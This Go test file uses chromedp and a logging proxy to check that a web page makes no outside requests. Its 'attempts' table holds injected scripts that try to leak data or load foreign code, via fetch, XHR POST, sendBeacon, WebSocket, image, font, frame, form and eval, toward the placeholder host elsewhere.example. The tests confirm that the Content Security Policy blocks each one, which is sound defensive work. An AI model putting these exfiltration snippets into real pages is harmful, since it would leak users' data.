package main

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// Nothing leaves the browser. That is looked at from both sides: the browser's own log
// of what the page asks for, and a proxy through which everything goes that the
// browser asks for, with its workers. And what an alien script would try is refused by
// the page's policy.

// testNetwork goes through the whole page, and looks at what was asked for.
func testNetwork(t *testing.T, b *browser) {
	for _, from := range []struct {
		name, address string
		asked         []string // all that the network hears of it
	}{
		{"file", "file://" + b.data.file, nil},
		{"web host", b.net.address(), []string{b.net.address()}},
	} {
		t.Run(from.name, func(t *testing.T) {
			before, joined := b.net.count(&b.net.asked), b.net.count(&b.net.joined)
			tab := b.open(t, from.address+fragment(b.data.unknown[0]))
			tab.answer()
			tab.fill("#serial", "0045120")
			tab.fill("#hours", "900")
			tab.reveal("#addkey")
			tab.fill("#keyline", b.data.stranger.OpenSSHLine(""))
			tab.fill("#keyname", "South Quay Marine")
			tab.answered(func() { tab.click("#addkey") })
			tab.answered(func() { tab.choose(b.data.report) })
			tab.answered(func() { tab.drop(b.data.photos[0]) })
			tab.answered(func() { tab.click("#camera") })
			if got := b.net.since(&b.net.asked, before); !slices.Equal(got, from.asked) {
				t.Errorf("the network was asked for %q, want %q", got, from.asked)
			}
			for _, host := range b.net.since(&b.net.joined, joined) {
				if from.asked == nil || host != b.net.host {
					t.Errorf("the browser went to %s", host)
				}
			}
			requests := tab.log.told(&tab.log.requests)
			if len(requests) == 0 || requests[0] != from.address+fragment(b.data.unknown[0]) {
				t.Fatalf("the browser's log does not begin with the page: %q", clipped(fmt.Sprint(requests)))
			}
			for _, request := range requests[1:] {
				if scheme, _, _ := strings.Cut(request, ":"); scheme != "blob" && scheme != "data" {
					t.Errorf("the page asked for %s", clipped(request))
				}
			}
		})
	}
}

// attempts are ways to get something out of a page or something foreign into it, and
// the directive of the policy that refuses each (Content Security Policy Level 3,
// section 6). WebRTC, links that only warm up a connection and a change of the page's
// own address are under no directive that Chromium knows: that the page's own script
// does none of it is what testNetwork shows but for WebRTC, which goes past a proxy, and
// no other script runs in it.
var attempts = []struct{ name, directive, script string }{
	{"fetch", "connect-src", `fetch(there).catch(() => {})`},
	{"XMLHttpRequest", "connect-src", `{ const x = new XMLHttpRequest(); x.open("POST", there); x.send("serial") }`},
	{"beacon", "connect-src", `navigator.sendBeacon(there, "serial")`},
	{"WebSocket", "connect-src", `new WebSocket("wss://elsewhere.example/")`},
	{"EventSource", "connect-src", `new EventSource(there)`},
	{"picture", "img-src", `new Image().src = there`},
	{"background", "style-src-attr", `document.body.setAttribute("style", "background: url(" + there + ")")`},
	{"script", "script-src-elem", `put("script", { src: there })`},
	{"script inside", "script-src-elem", `document.head.append(Object.assign(document.createElement("script"), { textContent: "window.ran = true" }))`},
	{"handler", "script-src-attr", `{ const b = document.createElement("b"); b.setAttribute("onclick", "window.ran = true"); b.click() }`},
	{"eval", "script-src", `try { eval("window.ran = true") } catch {}`},
	{"module", "script-src-elem", `import(there).catch(() => {})`},
	{"worker", "worker-src", `try { new Worker(location.href.split("#")[0] + "?worker") } catch { done("worker-src") }`}, // from a disk no policy is asked
	{"style", "style-src-elem", `put("link", { rel: "stylesheet", href: there })`},
	{"font", "font-src", `new FontFace("f", "url(" + there + ")").load().catch(() => {})`},
	{"frame", "frame-src", `put("iframe", { src: there })`},
	{"object", "object-src", `put("object", { data: there })`},
	{"video", "media-src", `put("video", { src: there })`},
	{"base", "base-uri", `put("base", { href: there })`},
	{"form", "form-action", `{ const f = put("form", { action: there, method: "post" }); f.submit() }`},
}

// strict evaluates under the page's policy, which lets nothing be evaluated in it.
func (t *tab) strict(expression string) string {
	t.Helper()
	value, err := chromedp.Run(t.ctx, chromedp.Evaluate[string](expression, chromedp.EvalAwaitPromise,
		func(p *runtime.EvaluateParams) { p.AllowUnsafeEvalBlockedByCSP = new(false) }))
	if err != nil {
		t.Fatalf("%s: %v", clipped(expression), err)
	}
	return value
}

// testPolicy tries them all. Nothing is asked of anybody. For a frame and a form
// Chromium opens a connection before it asks the policy, and sends nothing over it.
func testPolicy(t *testing.T, b *browser) {
	for name, address := range map[string]string{"file": "file://" + b.data.file, "web host": b.net.address()} {
		t.Run(name, func(t *testing.T) {
			tab := b.open(t, address)
			asked := b.net.count(&b.net.asked)
			for _, a := range attempts {
				joined := b.net.count(&b.net.joined)
				refused := tab.strict(`new Promise((done) => {
					const there = "https://elsewhere.example/" + Math.random();
					const put = (name, attributes) => document.body.appendChild(Object.assign(document.createElement(name), attributes));
					addEventListener("securitypolicyviolation", (e) => setTimeout(() => done(e.effectiveDirective), 50), { once: true });
					setTimeout(() => done("nothing"), 3000);
					` + a.script + `
				})`)
				if refused != a.directive {
					t.Errorf("%s: refused by %s, want %s", a.name, refused, a.directive)
				}
				if got := b.net.since(&b.net.joined, joined); len(got) > 0 && a.name != "frame" && a.name != "form" {
					t.Errorf("%s: the browser went to %q", a.name, got)
				}
			}
			if eval[bool](tab, `"ran" in window`) {
				t.Error("an alien script ran")
			}
			time.Sleep(200 * time.Millisecond) // what was to be asked would have been
			if got := b.net.since(&b.net.asked, asked); len(got) > 0 {
				t.Errorf("the network was asked for %q", got)
			}
		})
	}
	t.Run("without the policy", func(t *testing.T) {
		tab := b.blank(t) // so that this network would have heard it
		asked := b.net.count(&b.net.asked)
		tab.do(chromedp.Navigate(b.net.loopback() + "none"))
		if got := eval[int](tab, `fetch("/anything", { mode: "no-cors" }).then((r) => r.status)`); got != http.StatusNotFound {
			t.Errorf("a page without a policy gets %d", got)
		}
		if got := b.net.since(&b.net.asked, asked); !slices.Contains(got, b.net.loopback()+"anything") {
			t.Errorf("the network heard %q", got)
		}
	})
}
